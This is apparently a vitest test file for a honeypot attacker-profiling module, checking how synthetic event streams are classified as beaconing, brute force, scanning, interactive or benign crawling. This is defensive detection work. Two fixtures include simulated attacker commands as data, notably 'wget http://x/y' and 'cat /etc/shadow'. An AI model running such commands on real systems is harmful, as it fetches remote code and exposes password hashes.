// Classification on small crafted streams (through AttackerProfile) and on crafted features (classify).
import { describe, expect, it } from 'vitest';
import {
  beaconGate,
  type ClassifierInput,
  classify,
  type KeyFeatures,
} from '../../../src/profiler/classify.js';
import { AttackerProfile, profileEvents } from '../../../src/profiler/profile.js';
import { TrwDetector } from '../../../src/profiler/scan.js';
import { analyzeTiming } from '../../../src/profiler/timing.js';
import type { ProfilerEvent } from '../../../src/profiler/types.js';

const IP = '203.0.113.5';
const T0 = 1_736_121_600;
let conn = 0;
const e = (ts: number, over: Partial<ProfilerEvent>): ProfilerEvent => ({
  ts: T0 + ts,
  src_ip: IP,
  kind: 'request',
  source: 'honeypot',
  event_type: 'request',
  dst_ip: '198.18.0.10',
  ...over,
});

/** A check-in with three events: the sensor's hello and flow summary, and the honeypot's request log. */
function checkin(t: number, sni = 'cdn.example.net'): ProfilerEvent[] {
  const c = `c${++conn}`;
  return [
    e(t + 0.02, {
      source: 'sensor',
      event_type: 'tls_client_hello',
      service: 'https',
      dst_port: 443,
      sni,
      conn_id: c,
    }),
    e(t, {
      source: 'sensor',
      event_type: 'tcp_flow_timing',
      kind: 'connection',
      outcome: 'established',
      service: 'https',
      dst_port: 443,
      conn_id: c,
    }),
    e(t + 0.3, { service: 'https', dst_port: 443, host: sni }),
  ];
}

const classOf = (events: ProfilerEvent[]) => profileEvents(events)[0]!.behavior_class;

describe('classification of crafted streams', () => {
  it('a 60 s beacon with three events per check-in is beaconing, attributed to Cobalt Strike', () => {
    const events = Array.from({ length: 10 }, (_, i) => checkin(i * 60.25)).flat();
    const [b] = profileEvents(events);
    expect(b!.behavior_class).toBe('beaconing');
    expect(b!.beacon_interval_s).toBeCloseTo(60.25, 1);
    expect(b!.attribution?.framework).toBe('cobalt_strike');
    expect(b!.keys[0]!.key).toBe('https|cdn.example.net');
  });
  it('the same cadence with fewer than 6 episodes is insufficient data', () => {
    expect(classOf(Array.from({ length: 4 }, (_, i) => checkin(i * 60)).flat())).toBe('insufficient_data');
  });
  it('a slow, perfectly regular brute force is brute_force, never beaconing', () => {
    const events: ProfilerEvent[] = [];
    for (let i = 0; i < 20; i++) {
      events.push(
        e(i * 30, {
          kind: 'auth',
          event_type: 'login_attempt',
          service: 'ssh',
          dst_port: 22,
          success: false,
        }),
      );
    }
    const [b] = profileEvents(events);
    expect(b!.behavior_class).toBe('brute_force');
    expect(b!.keys[0]!.timing!.test.periodic).toBe(true);
    expect(b!.classification.reasons.join(' ')).toContain('gated (auth)');
  });
  it('a login followed by commands is interactive', () => {
    const events = [
      e(0, { kind: 'connection', event_type: 'connection', service: 'ssh', dst_port: 22 }),
      e(1, { kind: 'auth', event_type: 'login_attempt', service: 'ssh', dst_port: 22, success: true }),
      e(5, { kind: 'command', event_type: 'command', service: 'ssh', command: 'uname -a' }),
      e(12, { kind: 'command', event_type: 'command', service: 'ssh', command: 'wget http://x/y' }),
    ];
    const [b] = profileEvents(events);
    expect(b!.behavior_class).toBe('interactive');
    expect(b!.phases.order).toEqual(['recon', 'credential_access', 'discovery', 'command_and_control']);
  });
  it('a sensor scan summary with mostly closed ports is scanning', () => {
    expect(
      classOf([
        e(0, {
          source: 'sensor',
          kind: 'scan_summary',
          event_type: 'scan_summary',
          probes: { answered: 2, failed: 40, first_ts: T0, last_ts: T0 + 3 },
        }),
      ]),
    ).toBe('scanning');
  });
  it('one probe every 60 s to closed ports is a slow scan', () => {
    const events = Array.from({ length: 12 }, (_, i) =>
      e(i * 60, {
        kind: 'connection',
        event_type: 'connection',
        outcome: 'rejected',
        dst_port: 1000 + i,
        service: `port${i}`,
      }),
    );
    expect(classOf(events)).toBe('slow_scan');
  });
  it('scan, brute force and a session together are mixed', () => {
    const events: ProfilerEvent[] = [
      e(0, {
        source: 'sensor',
        kind: 'scan_summary',
        event_type: 'scan_summary',
        probes: { answered: 1, failed: 30 },
      }),
    ];
    for (let i = 0; i < 8; i++)
      events.push(
        e(100 + i, { kind: 'auth', event_type: 'login_attempt', service: 'ssh', success: i === 7 }),
      );
    events.push(e(120, { kind: 'command', event_type: 'command', service: 'ssh', command: 'id' }));
    events.push(
      e(125, { kind: 'command', event_type: 'command', service: 'ssh', command: 'cat /etc/shadow' }),
    );
    const [b] = profileEvents(events);
    expect(b!.behavior_class).toBe('mixed');
    expect(b!.classification.behaviours).toEqual(['interactive', 'scanning', 'brute_force']);
  });
  it('a crawler that says who it is, every 6 h, is periodic_benign', () => {
    const ua = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const events = Array.from({ length: 8 }, (_, i) =>
      e(i * 21_600 + (i % 3), { service: 'http', dst_port: 80, host: 'www.example.org', user_agent: ua }),
    );
    expect(classOf(events)).toBe('periodic_benign');
  });
  it('memoryless requests are not beaconing', () => {
    let t = 0;
    const gaps = [12, 3, 95, 41, 7, 160, 22, 58, 2.5, 33, 71];
    const events = gaps.map((g) => {
      t += g;
      return e(t, { service: 'http', dst_port: 80, host: 'www.example.org' });
    });
    expect(classOf(events)).toBe('mixed');
  });
});

describe('AttackerProfile', () => {
  it('ignores events of other sources and non-finite times', () => {
    const p = new AttackerProfile(IP);
    p.add({ ...e(0, {}), src_ip: '192.0.2.1' });
    p.add(e(Number.NaN, {}));
    expect(p.snapshot().event_count).toBe(0);
  });
});

describe('classify on crafted features', () => {
  const timing = (gaps: number[]) =>
    analyzeTiming(
      gaps,
      gaps.map((g) => g - 1),
    );
  const key = (over: Partial<KeyFeatures>): KeyFeatures => ({
    key: 'https|c2',
    episodes: 10,
    destinations: 1,
    counters: {
      events: 10,
      connections: 10,
      failed_connections: 0,
      requests: 10,
      auth_attempts: 0,
      auth_failures: 0,
      commands: 0,
    },
    timing: timing(Array(9).fill(60)),
    self_identified_benign: false,
    ...over,
  });
  const input = (keys: KeyFeatures[], over: Partial<ClassifierInput> = {}): ClassifierInput => ({
    episodes_total: keys.reduce((a, k) => a + k.episodes, 0),
    auth_attempts: 0,
    auth_failures: 0,
    commands: 0,
    scan: new TrwDetector().result(),
    keys,
    visits: null,
    self_identified_benign: false,
    ...over,
  });
  it('gates periodic keys: logins, many decoys, refused connections, self-identified tools', () => {
    const c = key({}).counters;
    expect(beaconGate(key({}))).toBeNull();
    expect(beaconGate(key({ counters: { ...c, auth_attempts: 1 } }))).toBe('auth');
    expect(beaconGate(key({ destinations: 3 }))).toBe('destinations');
    expect(beaconGate(key({ counters: { ...c, failed_connections: 6 } }))).toBe('failed');
    expect(beaconGate(key({ self_identified_benign: true }))).toBe('self_identified');
  });
  it('beaconing, periodic_benign and mixed from features', () => {
    expect(classify(input([key({})])).class).toBe('beaconing');
    expect(classify(input([key({ self_identified_benign: true })])).class).toBe('periodic_benign');
    expect(classify(input([key({})], { commands: 5 })).class).toBe('mixed');
    expect(classify(input([key({ episodes: 3, timing: timing([60, 60]) })])).class).toBe('insufficient_data');
  });
  it('an irregular key is not a beacon even when the test rejects Poisson', () => {
    // gamma-like gaps: significant at large n, but the inter-decile range is twice the median
    const gaps = Array.from({ length: 60 }, (_, i) => [0.5, 1, 1.5, 2, 3, 4][i % 6]! * 10);
    const t = timing(gaps);
    expect(t.regular).toBe(false);
    expect(classify(input([key({ episodes: 61, timing: t })])).class).toBe('mixed');
  });
});
